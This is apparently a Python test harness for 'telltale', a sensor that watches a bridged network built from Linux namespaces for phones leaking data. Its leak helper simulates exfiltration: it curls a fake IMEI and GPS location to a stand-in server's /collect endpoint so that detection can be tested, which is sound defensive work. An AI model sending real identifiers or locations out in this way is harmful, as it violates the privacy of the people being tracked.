"""A box with one watched bridge, a phone and a server, each a network namespace; and a running sensor in the box."""
import contextlib
import ctypes
import json
import os
import pathlib
import signal
import socket
import struct
import subprocess
import time
import unittest

from support import ENVIRONMENT, TELLTALE

PHONE, SERVER = "192.168.7.2", "203.0.113.9"


def sh(command, **options):
    return subprocess.run(command, shell=True, check=True, capture_output=True, text=True, **options).stdout


def skip_unless_possible():
    if os.geteuid() != 0:
        raise unittest.SkipTest("network namespaces need root")
    done = subprocess.run("unshare -n true", shell=True, capture_output=True)
    if done.returncode != 0:
        raise unittest.SkipTest("no network namespaces here: " + done.stderr.decode())


def wait_for(what, condition, seconds=20):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        found = condition()
        if found:
            return found
        time.sleep(0.05)
    raise AssertionError(f"{what}: not within {seconds} s")


class Net:
    """Namespaces NAME-phone, NAME-box, NAME-server; in the box the bridge br-lan joins phone and server."""

    def __init__(self, name):
        self.phone, self.box, self.server = (f"{name}-{os.getpid()}-{part}" for part in ("phone", "box", "server"))
        self.processes = []

    def __enter__(self):
        for space in (self.phone, self.box, self.server):
            sh(f"ip netns add {space}; ip -n {space} link set lo up")
        sh(f"ip -n {self.box} link add br-lan type bridge; ip -n {self.box} link set br-lan mtu 9000 up")
        for space, port in ((self.phone, "phone0"), (self.server, "server0")):
            self.plug(space, port)
        sh(f"ip -n {self.phone} addr add {PHONE}/24 dev eth0; ip -n {self.phone} route add default via 192.168.7.1")
        sh(f"ip -n {self.server} addr add 192.168.7.1/24 dev eth0; ip -n {self.server} addr add {SERVER}/32 dev eth0")
        self.start(self.server, "python3", "-c", "import http.server as h\nclass H(h.BaseHTTPRequestHandler):\n"
                   "  def do_POST(s):\n    s.rfile.read(int(s.headers['content-length'])); s.send_response(204); s.end_headers()\n"
                   "  def log_message(s, *a): pass\nh.ThreadingHTTPServer(('0.0.0.0', 80), H).serve_forever()")
        wait_for("the server", lambda: ":80 " in sh(f"ip netns exec {self.server} ss -ltn"))
        return self

    def plug(self, space, port):
        sh(f"ip -n {space} link add eth0 mtu 9000 type veth peer name {port} mtu 9000 netns {self.box}")
        sh(f"ip -n {self.box} link set {port} master br-lan up; ip -n {space} link set eth0 up")

    def __exit__(self, *_):
        for process in self.processes:
            process.kill()
            process.wait()
        for space in (self.phone, self.box, self.server):
            subprocess.run(["ip", "netns", "del", space], capture_output=True)

    def start(self, space, *command, **options):
        process = subprocess.Popen(["ip", "netns", "exec", space, *command], **options)
        self.processes.append(process)
        return process

    def leak(self, body='{"imei":"490154203237518","lat":52.12345,"lon":13.23456}', path="/collect"):
        sh(f"ip netns exec {self.phone} curl -s --max-time 10 -H 'Content-Type: application/json' -d '{body}' http://{SERVER}{path}")


class Sensor:
    """telltale run in the box; folder holds its events (events.json), store and configuration."""

    def __init__(self, net, folder, config="", interface="br-lan", environment=None):
        self.folder = pathlib.Path(folder)
        self.events_file, self.store = self.folder / "events.json", self.folder / "store.db"
        self.config, self.control = self.folder / "telltale.yaml", self.folder / "control.sock"
        self.config.write_text(config)
        log = (self.folder / "log").open("w")
        self.process = net.start(net.box, TELLTALE, "run", "-i", interface, "-c", str(self.config), "--json", str(self.events_file),
                                 "--store", str(self.store), "--control", str(self.control), stderr=log,
                                 env=ENVIRONMENT | (environment or {}))
        log.close()
        wait_for("the sensor", lambda: "watching" in self.said() or self.process.poll() is not None)
        if self.process.poll() is not None:
            raise AssertionError(self.said())

    def said(self):
        return (self.folder / "log").read_text()

    def events(self, kind=None):
        if not self.events_file.exists():
            return []
        lines = self.events_file.read_text().split("\n")[:-1]
        return [e for e in map(json.loads, lines) if kind in (None, e["event_type"])]

    def status(self):
        return dict(line.split(":\t", 1) for line in pathlib.Path(f"/proc/{self.process.pid}/status").read_text().splitlines()
                    if ":\t" in line)

    def ask(self, *command):
        return subprocess.run([TELLTALE, *command], capture_output=True, text=True, timeout=60, env=ENVIRONMENT)

    def reload(self):
        return self.ask("reload", "--control", self.control)

    def stop(self):
        self.process.send_signal(signal.SIGTERM)
        return self.process.wait(30)


def send_frames(space, interface, frames):
    """Sends raw frames from a namespace: a child process enters it."""
    child = os.fork()
    if child == 0:
        status = 1
        with contextlib.suppress(Exception):
            with open(f"/run/netns/{space}") as there:
                if ctypes.CDLL(None).setns(there.fileno(), 0x40000000) == 0:
                    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
                    out.bind((interface, 0))
                    for number, frame in enumerate(frames):
                        out.send(frame)
                        if number % 64 == 63:
                            time.sleep(0.002)
                    status = 0
        os._exit(status)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) != 0:
        raise AssertionError("the frames could not be sent")


def ethernet_frames(data):
    """The frames of a pcap of Ethernet, None for anything else."""
    magic = data[:4]
    order = "<" if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">" if magic in (b"\xa1\xb2\xc3\xd4", b"\xa1\xb2\x3c\x4d") else None
    if order is None or struct.unpack_from(order + "I", data, 20)[0] & 0xFFFF != 1:
        return None
    at, frames = 24, []
    while at + 16 <= len(data):
        size, wire = struct.unpack_from(order + "II", data, at + 8)
        if size != wire:
            return None
        frames.append(data[at + 16:at + 16 + size])
        at += 16 + size
    return frames
